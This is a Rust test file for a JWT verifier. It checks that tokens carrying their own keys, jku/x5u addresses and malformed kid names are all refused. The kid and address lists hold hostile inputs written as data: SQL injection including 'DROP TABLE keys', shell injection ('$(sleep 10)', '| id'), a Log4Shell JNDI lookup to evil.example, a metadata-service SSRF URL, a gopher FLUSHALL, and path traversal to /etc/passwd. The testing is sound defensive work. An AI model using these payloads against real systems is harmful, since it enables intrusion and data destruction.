//! A token brings no key, and its `kid` is a name and nothing else.

use serde_json::{Value, json};

use super::{ATTACKER, Attack, Class, accepted, claims, good, header, refused, with, with_header, without};
use crate::authn::Rejection;
use crate::authn::jwt::{Algorithm, reason};

pub(super) fn classes() -> Vec<Class> {
    vec![
        Class { name: "embedded key", clause: "RFC 8725, section 3.10; RFC 7515, section 4.1.3", attacks: embedded() },
        Class {
            name: "address of a key",
            clause: "RFC 8725, section 3.10; RFC 7515, section 4.1.2",
            attacks: addressed(),
        },
        Class { name: "name of a key", clause: "RFC 8725, section 3.10; RFC 7515, section 4.1.4", attacks: named() },
    ]
}

/// Signed with the key that the token brings.
fn embedded() -> Vec<Attack> {
    let of = |algorithm: Algorithm| {
        let (alg, jwk) = (algorithm.as_str(), ATTACKER.jwk(algorithm));
        let brings = |name: &str, header: Value, why: Rejection| {
            refused(format!("{alg}, {name}"), ATTACKER.sign(header, claims()), why)
        };
        let own = || with(header(alg), "jwk", jwk.clone());
        [
            brings("jwk under our kid", own(), reason::SIGNATURE),
            brings("jwk under another kid", with(own(), "kid", json!("mine")), reason::KEY_UNKNOWN),
            brings("jwk and no kid", without(own(), "kid"), reason::SIGNATURE),
            brings("x5c", with(header(alg), "x5c", json!(["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"])), reason::SIGNATURE),
            brings("x5t of nothing", with(header(alg), "x5t#S256", json!("AAAA")), reason::SIGNATURE),
        ]
    };
    let algorithms = Algorithm::DEFAULT.iter().copied();
    let secret = with_header("jwk", json!({ "kty": "oct", "k": "AAAA" }));
    algorithms.flat_map(of).chain([accepted("a secret beside a good signature", secret)]).collect()
}

fn addressed() -> Vec<Attack> {
    let addresses = [
        "https://evil.example/jwks.json",
        "http://169.254.169.254/latest/meta-data/",
        "http://localhost:8080/",
        "file:///etc/passwd",
        "https://id.example.com@evil.example/jwks.json",
        "https://id.example.com/redirect?to=https://evil.example",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "data:application/json,{}",
        "//evil.example",
    ];
    let attack = |address: &str| {
        ["jku", "x5u"].map(|member| {
            let token = ATTACKER.sign(with(header("EdDSA"), member, json!(address)), claims());
            refused(format!("{member} {address}"), token, reason::SIGNATURE)
        })
    };
    addresses.into_iter().flat_map(attack).collect()
}

/// Signed with the right key, so that the name alone is wrong.
fn named() -> Vec<Attack> {
    let names = [
        "",
        " EdDSA",
        "EdDSA ",
        "EdDSA\0",
        "EdDSA\n",
        "EDDSA",
        "eddsa",
        "\u{415}dDSA",
        "%45dDSA",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///proc/sys/kernel/randomize_va_space",
        "..\\..\\windows\\win.ini",
        "' OR '1'='1",
        "x' UNION SELECT 'AAAA' -- ",
        "1; DROP TABLE keys",
        "*",
        "(|(kid=*))",
        "$(sleep 10)",
        "| id",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "__proto__",
        "0",
        "null",
        "https://evil.example/key",
    ];
    let attack = |name: &str| refused(format!("{name:?}"), with_header("kid", json!(name)), reason::KEY_UNKNOWN);
    let huge = refused("huge", with_header("kid", json!("k".repeat(5_000))), reason::KEY_UNKNOWN);
    let values = [json!(null), json!(0), json!(["EdDSA"]), json!({ "EdDSA": 1 }), json!(true)];
    let other = |value: Value| refused(value.to_string(), with_header("kid", value), reason::HEADER_TYPES);
    let wrong = names.into_iter().map(attack).chain([huge]).chain(values.into_iter().map(other));
    wrong.chain([accepted("the name", good())]).collect()
}
